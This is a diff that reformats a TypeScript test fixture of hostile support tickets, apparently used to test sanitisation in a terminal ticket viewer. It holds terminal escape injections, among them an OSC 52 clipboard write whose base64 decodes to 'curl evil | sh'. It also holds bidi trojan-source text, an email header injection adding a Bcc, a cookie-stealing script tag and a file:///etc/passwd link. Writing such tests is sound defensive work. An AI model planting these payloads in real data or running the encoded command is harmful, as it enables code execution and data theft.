@@ -23,12 +23,36 @@ export const HOSTILE: readonly SeedTicket[] = [
     reference: `REF${ESC}[5m-${BEL}${BEL}1`,
     notes: [
       ['7h', 'you', `Title: ${ESC}]0;root@prod${BEL} clipboard: ${ESC}]52;c;Y3VybCBldmlsIHwgc2g=${BEL} end.`],
-      ['6h', 'desk', `Unterminated OSC hides the rest: ${ESC}]8;;http://evil.example/ all of this should still be readable.`],
-      ['5h', 'you', `Link: ${ESC}]8;;https://evil.example/${ESC}\\https://portal.equinix.example${ESC}]8;;${ESC}\\ and DCS ${ESC}P+q544e${ESC}\\ and APC ${ESC}_Gf=100;AAAA${ESC}\\ end.`],
-      ['4h', 'desk', 'progress 10%\rprogress 50%\rprogress 100%\rDONE, nothing to see\b\b\b\b\b\b\b\b\b\b\u007F end.'],
-      ['3h', 'you', 'if (user != "\u202E \u2066admin\u2069 \u2066") { // bidi \u200F\u061C override \u202C end.'],
-      ['2h', 'desk', 'zero\u200Bwidth\u2060joiner\uFEFF soft\u00ADhyphen tag\u{E0041}\u{E0042} filler\u3164\uFFA0 line\u2028sep para\u2029sep next\u0085line end.'],
-      ['1h', 'you', `Lone surrogate \uD83D and ${'\u0300'.repeat(60)}stacked marks, NUL \u0000, SO \u000E lines \u000F, RIS ${ESC}c, query ${ESC}[6n${ESC}[c${ESC}[>q end.`],
+      [
+        '6h',
+        'desk',
+        `Unterminated OSC hides the rest: ${ESC}]8;;http://evil.example/ all of this should still be readable.`,
+      ],
+      [
+        '5h',
+        'you',
+        `Link: ${ESC}]8;;https://evil.example/${ESC}\\https://portal.equinix.example${ESC}]8;;${ESC}\\ and DCS ${ESC}P+q544e${ESC}\\ and APC ${ESC}_Gf=100;AAAA${ESC}\\ end.`,
+      ],
+      [
+        '4h',
+        'desk',
+        'progress 10%\rprogress 50%\rprogress 100%\rDONE, nothing to see\b\b\b\b\b\b\b\b\b\b\u007F end.',
+      ],
+      [
+        '3h',
+        'you',
+        'if (user != "\u202E \u2066admin\u2069 \u2066") { // bidi \u200F\u061C override \u202C end.',
+      ],
+      [
+        '2h',
+        'desk',
+        'zero\u200Bwidth\u2060joiner\uFEFF soft\u00ADhyphen tag\u{E0041}\u{E0042} filler\u3164\uFFA0 line\u2028sep para\u2029sep next\u0085line end.',
+      ],
+      [
+        '1h',
+        'you',
+        `Lone surrogate \uD83D and ${'\u0300'.repeat(60)}stacked marks, NUL \u0000, SO \u000E lines \u000F, RIS ${ESC}c, query ${ESC}[6n${ESC}[c${ESC}[>q end.`,
+      ],
     ],
     emails: [
       {
@@ -38,8 +62,12 @@ export const HOSTILE: readonly SeedTicket[] = [
         from: 'mallory@attacker.example\r\nBcc: all@equinix.example',
         html: mail(
           '<script>alert(document.cookie)</script><style>*{display:none}</style>',
-          p(`Escape in the body: ${ESC}[2J and as entities: &#27;[2J &#x1b;]0;title&#7; &#155;31m &#x9d;52;c;eA==&#x9c; &#8238;evil&#8236;`),
-          p('<a href="https://evil.example/%1b[2J">https://portal.equinix.example/login</a> <a href="data:text/html,x">data</a> <a href="file:///etc/passwd">file</a>'),
+          p(
+            `Escape in the body: ${ESC}[2J and as entities: &#27;[2J &#x1b;]0;title&#7; &#155;31m &#x9d;52;c;eA==&#x9c; &#8238;evil&#8236;`,
+          ),
+          p(
+            '<a href="https://evil.example/%1b[2J">https://portal.equinix.example/login</a> <a href="data:text/html,x">data</a> <a href="file:///etc/passwd">file</a>',
+          ),
           `<table><tr><td>${'<table><tr><td>'.repeat(40)}deep${'</td></tr></table>'.repeat(40)}</td></tr></table>`,
           '<p>unclosed <b>bold <i>and <table><tr><td>cell',
         ),
@@ -56,14 +84,31 @@ export const HOSTILE: readonly SeedTicket[] = [
       {name: '.bashrc', content: {text: 'echo hidden\n'}},
     ],
     contacts: [
-      {firstName: `Mal${ESC}[31mlory`, lastName: '\u202Erotcartnoc', type: 'ORDERING', details: [{type: 'EMAIL', value: `m${BEL}@attacker.example`}]},
+      {
+        firstName: `Mal${ESC}[31mlory`,
+        lastName: '\u202Erotcartnoc',
+        type: 'ORDERING',
+        details: [{type: 'EMAIL', value: `m${BEL}@attacker.example`}],
+      },
       {firstName: '', lastName: '', type: 'TECHNICAL', details: []},
     ],
     updatedBy: `root${ESC}[0m\r`,
     purchaseOrders: [`PO${ESC}[31m`],
     products: ['SMART_HANDS\u0000'],
     info: [{key: `K${ESC}[4m`, value: `V${C1_CSI}4m`}],
-    lines: [{lineId: `1-${ESC}[31mX`, productType: 'SMART_HANDS', status: 'IN_PROGRESS', cage: `SV5:${BEL}`, additionalInfo: [{key: 'x', value: `${ESC}[2J`}], modifiable: true, cancellable: true, reOpen: 'true', respond: false}],
+    lines: [
+      {
+        lineId: `1-${ESC}[31mX`,
+        productType: 'SMART_HANDS',
+        status: 'IN_PROGRESS',
+        cage: `SV5:${BEL}`,
+        additionalInfo: [{key: 'x', value: `${ESC}[2J`}],
+        modifiable: true,
+        cancellable: true,
+        reOpen: 'true',
+        respond: false,
+      },
+    ],
   },
   {
     case: '11150013',
